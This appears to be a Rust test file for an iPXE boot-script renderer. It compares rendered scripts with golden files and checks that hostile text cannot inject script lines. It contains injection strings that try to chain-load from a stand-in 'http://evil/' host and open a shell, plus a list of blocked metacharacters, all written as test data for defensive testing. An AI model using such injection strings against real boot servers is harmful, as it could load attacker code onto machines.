//! Golden scripts for every intent × platform, and injection attempts.

use std::path::PathBuf;
use std::time::Duration;

use super::*;

fn mac() -> Mac {
    "52:54:00:12:34:56".parse().unwrap()
}

fn url(s: &str) -> Url {
    Url(s.to_string())
}

fn golden(name: &str, actual: &str) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/scripts")
        .join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_GOLDEN=1 writes it)", path.display()));
    assert_eq!(actual, want, "{name} differs from its golden file");
}

fn cmdline() -> Cmdline {
    Cmdline::join([
        "console=ttyS0",
        "config_url=http://198.18.0.1:8080/config/52:54:00:12:34:56",
    ])
    .unwrap()
}

#[test]
fn golden_scripts() {
    let base = "http://198.18.0.1:8080";
    let hex = "ab".repeat(32);
    let cases: Vec<(&str, Script)> = vec![
        ("dispatch.ipxe", Script::Dispatch { next: url(&format!("{base}/boot/ipxe?mac=52:54:00:12:34:56&platform=${{platform}}")) }),
        ("install-efi.ipxe", Script::InstallEfi { uki: url(&format!("{base}/assets/{hex}/hadron.efi?mac=52:54:00:12:34:56")), cmdline: cmdline(), retry: url(&format!("{base}/boot/ipxe?mac=52:54:00:12:34:56&platform=efi")) }),
        ("install-pcbios.ipxe", Script::InstallBios {
            kernel: url(&format!("{base}/assets/{hex}/sections/linux?mac=52:54:00:12:34:56")),
            initrd: Some(url(&format!("{base}/assets/{hex}/sections/initrd?mac=52:54:00:12:34:56"))),
            cmdline: cmdline(),
            retry: url(&format!("{base}/boot/ipxe?mac=52:54:00:12:34:56&platform=pcbios")),
        }),
        ("disk-efi.ipxe", Script::LocalDisk { platform: Platform::Efi }),
        ("disk-pcbios.ipxe", Script::LocalDisk { platform: Platform::Pcbios }),
        ("hold-efi.ipxe", Script::Hold {
            message: IpxeText::new("discovered: waiting for an operator to approve this machine"),
            poll: Duration::from_secs(10),
            next: url(&format!("{base}/boot/ipxe?mac=52:54:00:12:34:56&platform=efi")),
        }),
        ("hold-pcbios.ipxe", Script::Hold {
            message: IpxeText::new("install failed (disk /dev/sda not found); run `provisioner machines reprovision 52:54:00:12:34:56` to try again"),
            poll: Duration::from_secs(30),
            next: url(&format!("{base}/boot/ipxe?mac=52:54:00:12:34:56&platform=pcbios")),
        }),
    ];
    for (name, script) in cases {
        golden(name, &script.render(mac()));
    }
}

#[test]
fn hostile_text_cannot_add_script_lines_or_expand_settings() {
    let hostile = "x\n#!ipxe\nchain http://evil/ ${net0/mac} && shell || \"q\" 'r' \\ # c";
    let rendered = Script::Hold {
        message: IpxeText::new(hostile),
        poll: Duration::from_secs(5),
        next: url("http://198.18.0.1/boot/ipxe?mac=52:54:00:12:34:56&platform=efi"),
    }
    .render(mac());
    let lines: Vec<&str> = rendered.lines().collect();
    assert_eq!(lines.len(), 6, "{rendered}");
    let echo = lines[2];
    assert!(echo.starts_with("echo provisioner: x_"), "{echo}");
    for bad in ["$", "{", "&&", "||", "\"", "\\", "#", ";"] {
        assert!(!echo.contains(bad), "{bad} survived: {echo}");
    }
    for bad in [
        "a$b",
        "x=\"y z\"",
        "it's",
        "a#b",
        "back\\slash",
        "semi;colon",
    ] {
        assert!(Cmdline::join([bad]).is_err(), "{bad} accepted");
    }
    assert!(Cmdline::join(["a&&b"]).is_err() && Cmdline::join(["a||b"]).is_err());
    // Line breaks separate words; they never reach the script.
    let c = Cmdline::join(["console=ttyS0\nchain http://evil/", "  quiet  "]).unwrap();
    assert_eq!(c.as_str(), "console=ttyS0 chain http://evil/ quiet");
    // Kairos's templated config_url is allowed (braces without `$`).
    assert!(Cmdline::join(["config_url=http://h/config?uuid={{.Values.product.uuid}}"]).is_ok());
}
